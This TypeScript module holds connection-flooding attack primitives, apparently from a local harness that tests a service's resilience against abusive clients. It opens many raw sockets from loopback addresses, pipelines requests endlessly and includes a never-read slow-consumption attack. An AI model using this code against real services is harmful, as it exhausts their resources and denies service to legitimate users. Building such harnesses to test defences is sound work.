// The connections of an attacker, and what all attacks do with them. Raw sockets, because an HTTP client obeys the
// protocol and costs the attacker more than its requests cost the service.
import { connect, type Socket } from "node:net";
import { connect as connectOverTls } from "node:tls";

const tick = 5; // milliseconds between two batches of new connections
const probeInterval = 500; // milliseconds after which a client that does not read learns that it was disconnected

/** The service under attack, and the API keys of the attacker. */
export interface Target {
  readonly origin: string;
  readonly keys: readonly string[];
}

/** What an attacker did: opened connections, those open at the end, and responses by status. */
export const counts: Record<string, number> = { opened: 0 };

/** The address of the attacker, which is not that of the legitimate client. */
export const attackerAddress = "127.0.0.2";

/** Returns the address of the attacker with this number. Linux routes all of 127.0.0.0/8 to loopback. */
export function addressOf(attacker: number): string {
  return `127.1.${(attacker >> 8) & 255}.${attacker & 255}`;
}

/** Opens a connection from a local address. */
export function open({ origin }: Target, address = attackerAddress): Socket {
  const { protocol, hostname: host, port } = new URL(origin);
  const options = { host, port: Number(port), localAddress: address };
  const isTls = protocol === "https:";
  const socket = isTls ? connectOverTls({ ...options, rejectUnauthorized: false }) : connect(options);
  counts.opened = (counts.opened ?? 0) + 1;
  return socket.on("error", () => {}).setNoDelay();
}

/**
 * Holds `count` connections. Opens at most `rate` per second, and replaces those that are closed. `create` receives the
 * number of the connection.
 */
export function hold(count: number, rate: number, create: (n: number) => Socket): void {
  const closed = Array.from({ length: count }, (_, n) => n);
  let allowance = 0;
  setInterval(() => {
    allowance = Math.min(allowance + (rate * tick) / 1_000, count);
    for (; allowance >= 1 && closed.length > 0; allowance--) {
      const n = closed.shift() as number;
      create(n).once("close", () => closed.push(n));
    }
    counts.open = count - closed.length;
  }, tick);
}

/** Sends `depth` requests, and a further one for each response. */
export function sendInLoop(socket: Socket, createRequest: () => string | Buffer, depth = 1): Socket {
  for (let n = 0; n < depth; n++) socket.write(createRequest());
  return onResponse(socket, () => socket.write(createRequest()));
}

/** Sends one request, and closes the connection at the first response. */
export function sendOnce(socket: Socket, request: string | Buffer): Socket {
  socket.write(request);
  return onResponse(socket, () => socket.resetAndDestroy()); // without TIME_WAIT, which would use up all ports
}

/** Counts the responses by status, and calls `next` after each. */
export function onResponse(socket: Socket, next: () => void = () => {}): Socket {
  let rest = "";
  return socket.on("data", (chunk: Buffer) => {
    const text = rest + chunk.toString("latin1");
    let end = 0;
    for (const { 1: status = "", index } of text.matchAll(/HTTP\/1\.1 (\d{3})/g)) {
      counts[status] = (counts[status] ?? 0) + 1;
      end = index + 12;
      next();
    }
    rest = text.slice(Math.max(end, text.length - 11)); // a status line can be in two chunks
  });
}

/** Sends requests again and again, and never reads a response. */
export function neverRead(socket: Socket, requests: string): Socket {
  socket.pause().write(requests);
  // Only a write reports to a client that does not read that its connection was closed.
  const timer = setInterval(() => socket.writableLength === 0 && socket.write(requests), probeInterval);
  return socket.once("close", () => clearInterval(timer));
}
